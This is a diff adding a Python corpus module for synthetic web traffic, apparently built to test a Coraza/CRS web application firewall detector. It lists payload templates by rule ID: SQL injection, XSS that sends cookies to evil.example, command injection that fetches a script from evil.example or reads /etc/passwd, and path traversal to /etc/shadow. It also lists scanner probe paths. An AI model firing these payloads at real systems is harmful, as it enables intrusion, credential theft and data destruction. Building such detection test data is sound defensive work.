@@ -0,0 +1,190 @@
+"""合成流量使用的语料
+
+- 攻击载荷按类别组织，每一族对应 CorazaDetector 中的一条CRS规则，
+  模板中的 {n} / {k} 在生成时填入随机数，使载荷具有真实日志中的多样性
+- 正常流量的User-Agent、路由和搜索词，按真实站点的基数构造
+"""
+
+from typing import Dict, List, Tuple
+
+# 攻击类别（scanner对应扫描器特征，检测结果的攻击类型为unknown）
+ATTACK_CATEGORIES = ('sql_injection', 'xss', 'command_injection', 'path_traversal', 'scanner')
+
+# 默认攻击比例（占全部请求），合计4%
+DEFAULT_ATTACK_RATIOS: Dict[str, float] = {
+    'sql_injection': 0.01,
+    'xss': 0.008,
+    'command_injection': 0.004,
+    'path_traversal': 0.006,
+    'scanner': 0.012
+}
+
+# 类别 -> [(规则ID, 载荷模板), ...]
+ATTACK_PAYLOADS: Dict[str, List[Tuple[str, str]]] = {
+    'sql_injection': [
+        ('CRS-942100', "1' UNION SELECT username,password FROM users--"),
+        ('CRS-942100', "{n} UNION ALL SELECT NULL,NULL,{k}--"),
+        ('CRS-942110', "' OR 1=1--"),
+        ('CRS-942110', "{n}' AND {k}={k} AND 'a'='a"),
+        ('CRS-942110', "{n} or {k}>{n}"),
+        ('CRS-942120', "{n}' AND SLEEP({k})--"),
+        ('CRS-942120', "1'; WAITFOR DELAY '0:0:{k}'--"),
+        ('CRS-942120', "{n} AND BENCHMARK(5000000,MD5({k}))"),
+        ('CRS-942130', "{n}' AND ASCII(SUBSTRING((SELECT database()),1,1))>{k}--"),
+        ('CRS-942150', "{n}' AND extractvalue(1,concat(0x7e,version()))--"),
+        ('CRS-942150', "1' AND updatexml(1,concat(0x7e,(SELECT user())),{k})--"),
+        ('CRS-942160', "{n}'; DROP TABLE users--"),
+        ('CRS-942160', "1'; INSERT INTO admins VALUES('x','{n}')--"),
+    ],
+    'xss': [
+        ('CRS-941100', "<script>alert({n})</script>"),
+        ('CRS-941100', "\"><script>document.location='http://evil.example/?c='+document.cookie</script>"),
+        ('CRS-941110', "<img src=x onerror=alert({n})>"),
+        ('CRS-941110', "<svg/onload=alert({k})>"),
+        ('CRS-941110', "<body onload=confirm({n})>"),
+        ('CRS-941120', "javascript:alert({n})"),
+        ('CRS-941130', "'-prompt({k})-'"),
+        ('CRS-941140', "<iframe src=//evil.example/{n}></iframe>"),
+        ('CRS-941150', "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+        ('CRS-941160', "<div style=\"width:expression(alert({n}))\">"),
+    ],
+    'command_injection': [
+        ('CRS-932100', ";cat /etc/passwd"),
+        ('CRS-932100', "| whoami"),
+        ('CRS-932100', "127.0.0.1; uname -a"),
+        ('CRS-932100', "; ls -la /var/www"),
+        ('CRS-932110', "& ipconfig /all"),
+        ('CRS-932110', "| type C:\\Windows\\win.ini"),
+        ('CRS-932120', "&& ping -c {k} 10.0.0.{n}"),
+        ('CRS-932120', "$(wget http://evil.example/{n}.sh)"),
+        ('CRS-932130', "`sleep {k}`"),
+    ],
+    'path_traversal': [
+        ('CRS-930100', "../../../../etc/passwd"),
+        ('CRS-930100', "..%2f..%2f..%2f..%2fetc%2fshadow"),
+        ('CRS-930100', "....//....//....//etc/hosts"),
+        ('CRS-930100', "..\\..\\..\\windows\\win.ini"),
+        ('CRS-930110', "/etc/passwd"),
+        ('CRS-930110', "/var/log/nginx/access.log"),
+        ('CRS-930120', "file:///etc/passwd"),
+        ('CRS-930120', "php://filter/convert.base64-encode/resource=index.php"),
+        ('CRS-930120', "zip://uploads/avatar{n}.jpg%23shell.php"),
+    ],
+}
+
+# 扫描器：(User-Agent模板, 探测路径)
+SCANNER_AGENTS = [
+    "sqlmap/1.{k}.{n}#stable (https://sqlmap.org)",
+    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:00{n})",
+    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    "gobuster/3.{k}",
+    "Wfuzz/3.1.0",
+    "Mozilla/5.0 (compatible; Nessus)",
+    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project) dirb",
+]
+
+SCANNER_PATHS = [
+    "/.env", "/.git/config", "/wp-admin/install.php", "/wp-login.php", "/phpmyadmin/index.php",
+    "/admin.php", "/backup.zip", "/config.php.bak", "/server-status", "/actuator/env",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/test.cgi", "/.DS_Store",
+    "/api/v1/products/{n}", "/search?q={n}",
+]
+
+# 可被注入的正常接口：(路径模板, 参数名)，载荷放在参数值中
+INJECTION_POINTS = {
+    'sql_injection': [("/products/view", "item"), ("/search", "q"), ("/api/v1/orders", "sort"), ("/news", "article")],
+    'xss': [("/search", "q"), ("/blog/comment", "message"), ("/account/profile", "nickname"), ("/help", "topic")],
+    'command_injection': [("/tools/ping", "host"), ("/api/v1/export", "name"), ("/admin/backup", "target")],
+    'path_traversal': [("/download", "file"), ("/static/view", "path"), ("/api/v1/images", "src"), ("/help", "template")],
+}
+
+# 正常路由：(模板, 权重)
+ROUTES = [
+    ("/", 8),
+    ("/products/{product}", 20),
+    ("/products?category={category}&page={page}", 10),
+    ("/search?q={query}", 8),
+    ("/blog/{slug}", 6),
+    ("/static/js/{asset}.js", 14),
+    ("/static/css/{asset}.css", 8),
+    ("/images/products/{product}.jpg", 15),
+    ("/api/v1/products/{product}/reviews?page={page}", 4),
+    ("/api/v1/cart", 4),
+    ("/account/orders", 2),
+    ("/login", 2),
+    ("/favicon.ico", 2),
+    ("/robots.txt", 1),
+    ("/health", 1),
+]
+
+# 请求体模式下以POST发送的路由及请求体模板
+POST_BODIES = {
+    "/api/v1/cart": '{{"product":{product},"quantity":{page}}}',
+    "/login": "username=customer{product}&password=hunter{page}&remember=on",
+}
+
+CATEGORIES = [
+    "shoes", "laptops", "phones", "books", "garden", "kitchen", "toys", "sports", "beauty",
+    "music", "office", "outdoor", "camera", "watches", "bags", "baby", "pets", "tools-hardware",
+]
+
+QUERY_WORDS = [
+    "wireless", "headphones", "running", "shoes", "coffee", "maker", "gaming", "mouse", "usb",
+    "charger", "winter", "jacket", "water", "bottle", "desk", "lamp", "yoga", "mat", "phone",
+    "case", "backpack", "keyboard", "monitor", "blender", "tent", "sunglasses", "red", "black",
+    "cheap", "best", "gift", "kids", "men", "women", "2024", "sale", "organic", "leather",
+]
+
+SLUG_WORDS = [
+    "how", "to", "choose", "the", "best", "guide", "review", "top", "ten", "tips", "for",
+    "summer", "winter", "deals", "new", "arrivals", "style", "home", "care", "cleaning", "vs",
+]
+
+SEARCH_REFERERS = [
+    "https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/",
+    "https://www.baidu.com/", "https://t.co/", "https://www.facebook.com/",
+]
+
+# 浏览器User-Agent：模板与参数组合展开成几百个不同取值
+_BROWSER_TEMPLATES = [
+    ("Mozilla/5.0 ({os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36", range(110, 125)),
+    ("Mozilla/5.0 ({os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0", range(115, 125)),
+    ("Mozilla/5.0 ({os}; rv:{v}.0) Gecko/20100101 Firefox/{v}.0", range(115, 126)),
+]
+_DESKTOP_OS = [
+    "Windows NT 10.0; Win64; x64",
+    "Macintosh; Intel Mac OS X 10_15_7",
+    "X11; Linux x86_64",
+    "X11; Ubuntu; Linux x86_64",
+]
+_MOBILE_TEMPLATES = [
+    ("Mozilla/5.0 (iPhone; CPU iPhone OS {v} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+     "Version/{major}.0 Mobile/15E148 Safari/604.1", ["15_8", "16_6", "17_0", "17_1_2", "17_2", "17_4_1"]),
+    ("Mozilla/5.0 (Linux; Android {v}; K) AppleWebKit/537.36 (KHTML, like Gecko) "
+     "Chrome/{major}.0.0.0 Mobile Safari/537.36", ["10", "11", "12", "13", "14"]),
+]
+
+BOT_AGENTS = [
+    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1)",
+    "curl/7.{k}.0",
+    "python-requests/2.{k}.0",
+    "okhttp/4.{k}.0",
+    "Go-http-client/1.1",
+]
+
+
+def browser_agents() -> List[str]:
+    """展开浏览器User-Agent池"""
+    agents = []
+    for template, versions in _BROWSER_TEMPLATES:
+        for version in versions:
+            for os_name in _DESKTOP_OS:
+                agents.append(template.format(os=os_name, v=version))
+    for template, versions in _MOBILE_TEMPLATES:
+        for version in versions:
+            for major in (118, 120, 122, 124) if 'Android' in template else (int(version.split('_')[0]),):
+                agents.append(template.format(v=version, major=major))
+    return agents